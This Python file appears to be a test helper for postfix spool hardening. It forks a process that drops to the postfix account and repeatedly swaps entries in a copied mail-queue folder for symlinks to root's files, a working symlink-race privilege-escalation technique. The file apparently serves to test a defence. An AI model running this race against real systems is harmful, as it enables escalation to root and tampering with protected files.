# SPDX-License-Identifier: GPL-3.0-or-later
"""An account that owns a folder of the queue, and puts links to root's files into the place of whatever root makes there."""

import os
import pwd
import signal
import time

ACCOUNT = "postfix"
LIVE = "/var/spool/postfix/private"
COPY = "/var/spool/postfix/smtp_hardening/spool/private"
FOLDERS = 200


def become(account):
    entry = pwd.getpwnam(account)
    os.setgroups([])
    os.setgid(entry.pw_gid)
    os.setuid(entry.pw_uid)


class Attacker:
    """Runs as a process of its own until it is ended; ``swapped`` is how often it has put a link somewhere."""

    def __init__(self, targets, work):
        self.reader, writer = os.pipe()
        self.pid = os.fork()
        if self.pid == 0:
            os.close(self.reader)
            try:
                become(ACCOUNT)
                work(targets, writer)
            finally:
                os._exit(0)
        os.close(writer)

    def __enter__(self):
        return self

    def __exit__(self, *_problem):
        os.kill(self.pid, signal.SIGKILL)
        os.waitpid(self.pid, 0)
        with os.fdopen(self.reader, "rb") as handle:
            self.swapped = len(handle.read())


def swap_copies(targets, writer):
    """Folders of ours appear in the twin's queue: each is renamed, and a link takes its place."""
    names = [f"attack{number}" for number in range(FOLDERS)]
    for name in names:
        os.makedirs(f"{LIVE}/{name}", exist_ok=True)
    os.set_blocking(writer, False)
    while True:
        if not os.path.isdir(COPY):
            time.sleep(0.0005)
            continue
        for number, name in enumerate(names):
            try:
                os.rename(f"{COPY}/{name}", f"{COPY}/{name}.{time.monotonic_ns()}")
                os.symlink(targets[number % len(targets)], f"{COPY}/{name}")
                os.write(writer, b"x")
            except OSError:
                continue


def clean():
    for name in os.listdir(LIVE):
        if name.startswith("attack"):
            os.rmdir(f"{LIVE}/{name}")
